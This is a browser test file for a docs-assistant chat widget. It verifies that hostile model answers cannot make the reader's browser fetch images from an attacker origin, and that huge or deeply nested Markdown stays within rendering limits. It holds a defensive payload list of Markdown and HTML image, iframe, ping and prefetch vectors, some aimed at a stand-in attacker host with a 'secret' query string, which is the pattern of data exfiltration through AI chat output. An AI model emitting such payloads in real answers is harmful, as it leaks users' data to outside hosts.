/**
 * What a hostile answer can make the reader's browser do (issue 14, rows 1 and 2), in Chromium with
 * the real widget: every request the page makes is logged.
 *
 * Row 1: images in model output (text and an expanded reasoning part) never load from an origin the
 * site did not allow; they show as links instead. Row 2: a 1,000-deep nested list of ~1 MB and a
 * 1 MB answer render with the Markdown limits holding, counted in what was built: the parser's and
 * React's work grow with it (micromark held the page for 23-45 s on the deep list before the
 * limits), and a count, unlike a bound on the longest task, holds on a busy machine. The long
 * tasks are still observed: `SHOW_LONG_TASKS=1` prints the longest.
 */
import { mkdirSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join, resolve } from 'node:path';
import type { Browser, Locator, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  MARKDOWN_MAX_CHARS,
  MARKDOWN_MAX_DEPTH,
} from '../../packages/docs-assistant/src/parts/markdown-limits';
import { serveWidgetPage, type WidgetPage } from '../ui/widget-page';

const root = resolve(import.meta.dirname, '../.artifacts/parts-hostile-answer');
const src = resolve(import.meta.dirname, '../../packages/docs-assistant/src');

// A 1x1 PNG.
const PNG_BASE64 =
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';
const PNG = Buffer.from(PNG_BASE64, 'base64');

/**
 * The hostile Markdown, built in the page from the attacker's origin (`atk`) and the allowed CDN's
 * (`cdn`): every way Markdown (and raw HTML, were it ever rendered) can name an image or make the
 * browser fetch on render.
 */
const HOSTILE = `
const hostile = (atk, cdn) => [
  'Inline ![inline](' + atk + '/inline.png?q=secret) and titled ![t](' + atk + '/titled.png "title").',
  '',
  'Reference ![ref][r] and collapsed ![r][] and shortcut ![r].',
  '',
  '[r]: ' + atk + '/ref.png',
  '',
  'Protocol-relative ![proto](' + atk.replace('http:', '') + '/proto.png) and ![dns](//attacker.example/dns.png).',
  '',
  'Loopback ![loop](http://localhost:' + new URL(atk).port + '/loop.png).',
  '',
  '| a | b |',
  '|---|---|',
  '| ![cell](' + atk + '/cell.png) | x |',
  '',
  'A footnote[^1] and a linked image [![linked](' + atk + '/linked.png)](https://example.com/page).',
  '',
  '[^1]: In a footnote ![fn](' + atk + '/fn.png).',
  '',
  'Link text [see ![in](' + atk + '/in-link.png) here](/guide).',
  '',
  '<img src="' + atk + '/raw.png"> <img srcset="' + atk + '/srcset.png 1x">',
  '',
  '<picture><source srcset="' + atk + '/source.png"><img src="' + atk + '/picture.png"></picture>',
  '',
  '<div style="background-image:url(' + atk + '/css.png)">styled</div>',
  '',
  '<a href="/x" ping="' + atk + '/ping">ping</a> <link rel="prefetch" href="' + atk + '/prefetch">',
  '',
  '<video poster="' + atk + '/poster.png"></video> <iframe src="' + atk + '/frame"></iframe>',
  '',
  'Allowed: ![same origin](/ok.png) and ![data](data:image/png;base64,${PNG_BASE64})' +
    (cdn ? ' and ![cdn](' + cdn + '/cdn.png)' : '') + '.',
  '',
].join('\\n');
`;

// Props and the answer come from the query string; answers are a real v4 data stream.
const MAIN = `
import { createDataStreamResponse, formatDataStreamPart } from 'ai';
import { createRoot } from 'react-dom/client';
import { DocsAssistant } from '${src}/index';
import '${src}/styles/docs-assistant.css';

// Every long task, from the start (row 2).
window.__longTasks = [];
new PerformanceObserver((list) => {
  for (const entry of list.getEntries()) window.__longTasks.push(entry.duration);
}).observe({ type: 'longtask', buffered: true });

${HOSTILE}

// A 1,000-deep nested list of ~1 MB: each item one level deeper than the one before.
function deepList() {
  const lines = [];
  for (let i = 0; i < 1000; i++) lines.push('  '.repeat(i) + '- item ' + i + ' ' + 'x'.repeat(Math.max(0, 1000 - 2 * i)));
  return lines.join('\\n') + '\\n\\nEND OF DEEP LIST';
}

// ~1 MB of ordinary Markdown: sections of prose, lists, a table and code, repeated.
function bigAnswer() {
  const section = (n) => [
    '## Section ' + n,
    '',
    'Some **prose** with a [link](/guides/' + n + ') and \\'code\\' for section ' + n + '.',
    '',
    '- first point of ' + n,
    '- second point, with *emphasis*',
    '  - a nested point',
    '',
    '| key | value |',
    '|-----|-------|',
    '| a' + n + ' | b' + n + ' |',
    '',
    '\`\`\`ts',
    'const section' + n + ' = ' + n + ';',
    '\`\`\`',
    '',
  ].join('\\n');
  let text = '';
  for (let n = 0; text.length < 1_000_000; n++) text += section(n);
  return text + '\\nEND OF BIG ANSWER';
}

const q = new URLSearchParams(location.search);
const atk = q.get('atk');
const cdn = q.get('cdn');
const kind = q.get('answer');
const usage = { promptTokens: 1, completionTokens: 1 };
const fetchAnswer = async () =>
  createDataStreamResponse({
    async execute(w) {
      if (kind === 'hostile') {
        w.write(formatDataStreamPart('reasoning', hostile(atk, cdn)));
        w.write(formatDataStreamPart('text', hostile(atk, cdn)));
      } else {
        const text = kind === 'deep' ? deepList() : bigAnswer();
        // Streamed in 16 kB deltas, each in a task of its own, as a network stream arrives.
        for (let i = 0; i < text.length; i += 16_384) {
          w.write(formatDataStreamPart('text', text.slice(i, i + 16_384)));
          await new Promise((done) => setTimeout(done, 0));
        }
      }
      w.write(formatDataStreamPart('finish_message', { finishReason: 'stop', usage }));
    },
  });
const allowed = q.get('allowed');
createRoot(document.getElementById('app')).render(
  <DocsAssistant domain="acme" apiKey="svc_dsc_browser" baseUrl="https://api.example.com"
    storage={q.get('storage') ?? 'memory'}
    fetch={fetchAnswer} variant="inline" theme="light"
    {...(allowed === null ? {} : { allowedImageOrigins: allowed ? allowed.split(',') : [] })} />,
);
`;

/** A server on its own origin answering every path with a PNG, and remembering the paths. */
async function imageServer(): Promise<{ origin: string; paths: string[]; server: Server }> {
  const paths: string[] = [];
  const server = createServer((req, res) => {
    paths.push(req.url ?? '');
    res.writeHead(200, { 'Content-Type': 'image/png', 'Access-Control-Allow-Origin': '*' });
    res.end(PNG);
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  return { origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, paths, server };
}

let widgetPage: WidgetPage | undefined;
let browser: Browser;
let origin: string;
let attacker: Awaited<ReturnType<typeof imageServer>>;
let cdn: Awaited<ReturnType<typeof imageServer>>;

beforeAll(async () => {
  // Vite copies `public/` into the build: the page's own image.
  mkdirSync(join(root, 'public'), { recursive: true });
  writeFileSync(join(root, 'public/ok.png'), PNG);
  attacker = await imageServer();
  cdn = await imageServer();
  widgetPage = await serveWidgetPage(root, { title: 'hostile answer', main: MAIN });
  ({ browser, origin } = widgetPage);
}, 120_000);

afterAll(async () => {
  await widgetPage?.close();
  for (const { server } of [attacker, cdn]) {
    if (server) await new Promise<void>((done) => server.close(() => done()));
  }
});

async function openAndAsk(query: string) {
  attacker.paths.length = 0;
  cdn.paths.length = 0;
  const context = await browser.newContext({ viewport: { width: 1200, height: 900 } });
  const requests: string[] = [];
  context.on('request', (request) => requests.push(request.url()));
  const page = await context.newPage();
  page.setDefaultTimeout(60_000);
  const errors: string[] = [];
  page.on('pageerror', (error) => errors.push(error.message));
  await page.goto(`${origin}/${query}`);
  const input = page.getByRole('textbox', { name: 'Your question' });
  await input.fill('Tell me everything');
  await page.keyboard.press('Enter');
  // The answer is wholly on screen: its message stopped streaming and holds nothing pending.
  await page.waitForSelector(
    '[data-docs-assistant="message"][data-role="assistant"]:not([data-streaming]):not(:has([data-pending]))',
  );
  return { page, requests, errors, close: () => context.close() };
}

/** Brings every image of the conversation into view and waits until each has loaded or failed. */
async function settleImages(page: Page) {
  await page.evaluate(async () => {
    const images = [...document.querySelectorAll<HTMLImageElement>('[data-docs-assistant="messages"] img')];
    for (const image of images) {
      image.scrollIntoView();
      image.loading = 'eager';
    }
    await Promise.all(
      images.map((image) =>
        image.complete
          ? undefined
          : new Promise((done) => {
              image.addEventListener('load', done, { once: true });
              image.addEventListener('error', done, { once: true });
            }),
      ),
    );
  });
}

const httpOrigins = (urls: string[]) =>
  [...new Set(urls.filter((url) => /^https?:/.test(url)).map((url) => new URL(url).origin))].sort();

describe('images in a hostile answer (issue 14 row 1)', () => {
  it('never load from another origin by default, in text or an expanded reasoning part; the page’s own and data: images do', async () => {
    const { page, requests, errors, close } = await openAndAsk(`?answer=hostile&atk=${attacker.origin}`);
    try {
      const message = page.locator('[data-docs-assistant="message"][data-role="assistant"]');
      await message.getByRole('button', { name: 'Reasoning' }).click();
      await settleImages(page);
      expect(attacker.paths).toEqual([]);
      expect(httpOrigins(requests)).toEqual([origin]);
      // Every reference to the attacker's origin ended up as a link or text, in both parts.
      for (const type of ['text', 'reasoning']) {
        const part = message.locator(`[data-part-type="${type}"]`);
        await expect.poll(() => part.locator('img').evaluateAll((imgs) => imgs.length)).toBe(2);
        const loaded = await part
          .locator('img')
          .evaluateAll((imgs) =>
            (imgs as HTMLImageElement[]).map((img) => [img.getAttribute('src'), img.naturalWidth]),
          );
        expect(loaded).toEqual([
          [`${origin}/ok.png`, 1],
          [`data:image/png;base64,${PNG_BASE64}`, 1],
        ]);
        const link = part.locator('a[data-external-image]').first();
        expect(await link.getAttribute('href')).toBe(`${attacker.origin}/inline.png?q=secret`);
        expect(await link.textContent()).toContain('inline');
      }
      expect(requests.filter((url) => url.endsWith('/ok.png')).length).toBeGreaterThan(0);
      expect(errors).toEqual([]);
    } finally {
      await close();
    }
  });

  it('load from an origin listed in allowedImageOrigins, and from no other', async () => {
    const { page, requests, close } = await openAndAsk(
      `?answer=hostile&atk=${attacker.origin}&cdn=${cdn.origin}&allowed=${origin},${cdn.origin},data:`,
    );
    try {
      await page.getByRole('button', { name: 'Reasoning' }).click();
      await settleImages(page);
      const text = page.locator(
        '[data-docs-assistant="message"][data-role="assistant"] [data-part-type="text"]',
      );
      const cdnImage = text.locator(`img[src="${cdn.origin}/cdn.png"]`);
      expect(await cdnImage.evaluate((img) => (img as HTMLImageElement).naturalWidth)).toBe(1);
      expect(cdn.paths).toContain('/cdn.png');
      expect(httpOrigins(requests)).toEqual([origin, cdn.origin].sort());
      expect(attacker.paths).toEqual([]);
    } finally {
      await close();
    }
  });
});

async function longestTask(page: Page): Promise<number> {
  return page.evaluate(() => Math.max(0, ...(window as unknown as { __longTasks: number[] }).__longTasks));
}

/**
 * The big answer's sections rendered as Markdown headings: some, and no more than a fifth of them
 * (the first `MARKDOWN_MAX_CHARS` characters are a tenth of the answer; rendered whole, all of its
 * ~4,000 sections would be headings).
 */
async function expectSizeCut(part: Locator, text: string) {
  const sections = text.match(/Section \d+/g)?.length ?? 0;
  const headings = await part.getByRole('heading').count();
  expect(text.length).toBeGreaterThan(9 * MARKDOWN_MAX_CHARS);
  expect(sections).toBeGreaterThan(1000);
  expect(headings).toBeGreaterThan(0);
  expect(headings).toBeLessThanOrEqual(sections / 5);
}

// A megabyte to render in a page: minutes, not seconds, on a machine other runs keep busy.
describe('a huge answer (issue 14 row 2)', { timeout: 180_000 }, () => {
  it('a 1,000-deep nested list of ~1 MB renders its first 32 levels as lists, the cut content still there as text', async () => {
    const { page, errors, close } = await openAndAsk('?answer=deep');
    try {
      const part = page.locator(
        '[data-docs-assistant="message"][data-role="assistant"] [data-part-type="text"]',
      );
      // The reader is told why the rest is plain text.
      expect(await part.locator('[data-markdown-limit]').getAttribute('data-markdown-limit')).toBe('depth');
      const depth = await part.evaluate((el) => {
        let deepest = 0;
        for (const list of el.querySelectorAll('ul')) {
          let d = 0;
          for (let node: Element | null = list; node && node !== el; node = node.parentElement) {
            if (node.tagName === 'UL') d++;
          }
          deepest = Math.max(deepest, d);
        }
        return deepest;
      });
      expect(depth).toBeGreaterThan(0);
      expect(depth).toBeLessThanOrEqual(32);
      const text = (await part.textContent()) ?? '';
      expect(text).toContain('item 999');
      expect(text).toContain('END OF DEEP LIST');
      // One list item a level: the parser and React built the first levels only, not 1,000.
      const items = await part.locator('li').count();
      expect(items).toBeGreaterThan(0);
      expect(items).toBeLessThanOrEqual(MARKDOWN_MAX_DEPTH);
      if (process.env.SHOW_LONG_TASKS) console.log('deep list, longest task', await longestTask(page));
      // Still responsive: the composer takes input.
      await page.getByRole('textbox', { name: 'Your question' }).fill('still here');
      expect(errors).toEqual([]);
    } finally {
      await close();
    }
  });

  it('a 1 MB answer renders its first 100,000 characters as Markdown, the rest as text', async () => {
    const { page, errors, close } = await openAndAsk('?answer=big');
    try {
      const part = page.locator(
        '[data-docs-assistant="message"][data-role="assistant"] [data-part-type="text"]',
      );
      expect(await part.locator('[data-markdown-limit]').getAttribute('data-markdown-limit')).toBe('size');
      expect(await part.getByRole('heading', { name: 'Section 0', exact: true }).count()).toBe(1);
      const text = (await part.textContent()) ?? '';
      expect(text).toContain('END OF BIG ANSWER');
      expect(text.length).toBeGreaterThan(900_000);
      await expectSizeCut(part, text);
      if (process.env.SHOW_LONG_TASKS) console.log('big answer, longest task', await longestTask(page));
      expect(errors).toEqual([]);
    } finally {
      await close();
    }
  });

  it('restored after a reload (rendered at once, not streamed), the 1 MB answer is cut the same way', async () => {
    const { page, errors, close } = await openAndAsk('?answer=big&storage=local');
    try {
      await page.reload();
      const part = page.locator(
        '[data-docs-assistant="message"][data-role="assistant"] [data-part-type="text"]',
      );
      await page.waitForSelector(
        '[data-docs-assistant="message"][data-role="assistant"]:not(:has([data-pending])) [data-markdown-limit="size"]',
      );
      const text = (await part.textContent()) ?? '';
      expect(text).toContain('END OF BIG ANSWER');
      await expectSizeCut(part, text);
      if (process.env.SHOW_LONG_TASKS) console.log('restored answer, longest task', await longestTask(page));
      expect(errors).toEqual([]);
    } finally {
      await close();
    }
  });
});
